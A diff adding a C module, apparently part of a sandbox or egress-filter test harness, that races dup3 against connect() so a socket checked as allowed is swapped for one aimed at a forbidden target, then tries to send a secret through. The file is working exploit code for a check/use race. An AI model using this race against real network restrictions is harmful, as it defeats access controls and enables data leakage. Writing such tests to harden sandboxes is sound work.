@@ -1,0 +1,110 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * The descriptor is one socket when it is checked and another when it is used:
+ * a second thread dup2's the two over one number while connect(2) runs.
+ */
+#define _GNU_SOURCE
+#include "attack.h"
+
+#include <errno.h>
+#include <fcntl.h>
+#include <poll.h>
+#include <pthread.h>
+#include <stdatomic.h>
+#include <string.h>
+#include <unistd.h>
+
+enum { SHARED_FD = 100, FRESH = 64 };
+
+static atomic_int sockets[2];
+static atomic_bool stop;
+
+static void *switcher(void *unused)
+{
+	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
+		dup3(atomic_load(&sockets[0]), SHARED_FD, O_CLOEXEC);
+		dup3(atomic_load(&sockets[1]), SHARED_FD, O_CLOEXEC);
+	}
+	return unused;
+}
+
+static void renew(int type)
+{
+	const struct linger reset = {.l_onoff = 1};
+
+	for (int i = 0; i < 2; i++) {
+		int old = atomic_load(&sockets[i]);
+		int fd = new_socket(AF_INET, type | SOCK_NONBLOCK, 0);
+
+		setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
+		atomic_store(&sockets[i], fd);
+		if (old > 0)
+			close(old);
+	}
+}
+
+/* Did any of the two sockets get to the target, by any way left to it? */
+static bool won(const struct scene *s, int type)
+{
+	for (int i = 0; i < 2; i++) {
+		int fd = atomic_load(&sockets[i]);
+		struct pollfd pfd = {.fd = fd, .events = POLLIN};
+		struct iovec iov = {(char *)(uintptr_t)s->secret,
+				    strlen(s->secret)};
+		struct msghdr msg = {.msg_name = (char *)(uintptr_t)&s->target4,
+				     .msg_namelen = sizeof(s->target4),
+				     .msg_iov = &iov,
+				     .msg_iovlen = 1};
+
+		if (type == SOCK_STREAM) {
+			pfd.events = POLLOUT;
+			if (same_peer(fd, &s->target4) &&
+			    poll(&pfd, 1, 5) == 1 && !(pfd.revents & POLLERR))
+				return true;
+		} else if (sendmsg(fd, &msg, 0) > 0 && poll(&pfd, 1, 5) == 1) {
+			return same_peer(fd, &s->target4) ||
+			       datagram_echoes(s, fd);
+		}
+	}
+	return false;
+}
+
+static enum verdict race(const struct scene *s, int type)
+{
+	int64_t end = now_us() + 40 * 1000000;
+	struct sockaddr_in allowed = s->allowed4;
+	unsigned int i;
+	pthread_t thread;
+	bool through = false;
+
+	allowed.sin_port = s->closed_port;
+	renew(type);
+	if (pthread_create(&thread, NULL, switcher, NULL) != 0)
+		return say(UNTRIED, "no second thread");
+	for (i = 0; i < s->tries && !through && now_us() < end; i++) {
+		if (i % 2 == 0)
+			renew(type);
+		connect(SHARED_FD,
+			(const void *)(i & 1 ? &s->target4 : &allowed),
+			sizeof(allowed));
+		through = i & 1 && won(s, type);
+	}
+	atomic_store(&stop, true);
+	pthread_join(thread, NULL);
+	return say(through ? THROUGH : REFUSED, "%u tries", i);
+}
+
+static enum verdict tcp(const struct scene *s)
+{
+	return race(s, SOCK_STREAM);
+}
+
+static enum verdict udp(const struct scene *s)
+{
+	return race(s, SOCK_DGRAM);
+}
+
+const struct attack attack_dup2 = {
+	"dup2",
+	(const struct mode[]){{"tcp", tcp}, {"udp", udp}, {0}},
+};
